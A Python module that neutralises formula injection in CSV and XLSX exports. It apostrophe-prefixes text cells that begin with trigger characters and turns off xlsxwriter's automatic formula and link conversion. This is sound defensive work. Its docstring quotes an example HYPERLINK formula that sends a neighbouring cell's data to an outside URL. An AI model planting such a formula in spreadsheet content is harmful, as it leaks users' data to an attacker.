"""Spreadsheet exports (CSV, XLSX) that a spreadsheet cannot turn into formulas.

A text a user typed (a commission's comment, an organisation's name, a target's label)
ends up in a cell of a file opened in Excel or LibreOffice; a text starting with ``=``
(or ``+``, ``-``, ``@``, which spreadsheets read as a formula too, or a tab or carriage
return before one) would run there: ``=HYPERLINK("https://…?"&A2, "Ouvrir")`` sends the
row next to it away. The OWASP rule: such a text gets a leading apostrophe, which the
spreadsheet reads as "this is text". Numbers are written as numbers, untouched.

Every CSV and XLSX writer goes through this module: ``EcrivainCsv`` for CSV, ``classeur()``
for XLSX.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from functools import cache
from typing import IO, Any

DECLENCHEURS = ("=", "+", "-", "@", "\t", "\r")


def neutraliser(valeur: Any) -> Any:
    """A text that a spreadsheet would read as a formula gets a leading apostrophe;
    anything else (other texts, numbers, dates, None) is returned as it is."""
    if isinstance(valeur, str) and valeur.startswith(DECLENCHEURS):
        return "'" + valeur
    return valeur


class EcrivainCsv:
    """``csv.writer`` (separator « ; », CRLF) whose every text cell is neutralised."""

    def __init__(self, flux: IO[str], *, delimiter: str = ";", lineterminator: str = "\r\n") -> None:
        self._writer = csv.writer(flux, delimiter=delimiter, lineterminator=lineterminator)

    def writerow(self, valeurs: Iterable[Any]) -> None:
        self._writer.writerow([neutraliser(v) for v in valeurs])


def _ecrire_texte(feuille: Any, ligne: int, colonne: int, texte: str, *args: Any) -> Any:
    return feuille.write_string(ligne, colonne, neutraliser(texte), *args)


@cache
def _feuille_neutralisee() -> type:
    from xlsxwriter.worksheet import Worksheet

    class FeuilleNeutralisee(Worksheet):  # type: ignore[misc]
        """A worksheet whose ``write`` of a text goes through ``neutraliser``."""

        def __init__(self) -> None:
            super().__init__()
            self.add_write_handler(str, _ecrire_texte)

    return FeuilleNeutralisee


def classeur(flux: IO[bytes]) -> Any:
    """An in-memory xlsxwriter workbook: every text given to a sheet's ``write`` is
    neutralised and written as text, and xlsxwriter's own guesses are off (a text starting
    with ``=`` is not made a formula, nor an address a link, nor a number-looking text a
    number). Numbers given as numbers stay numbers."""
    import xlsxwriter  # only when an XLSX is asked for: not loaded by every worker at startup

    wb = xlsxwriter.Workbook(
        flux,
        {
            "in_memory": True,
            "strings_to_formulas": False,
            "strings_to_urls": False,
            "strings_to_numbers": False,
        },
    )
    wb.worksheet_class = _feuille_neutralisee()
    return wb
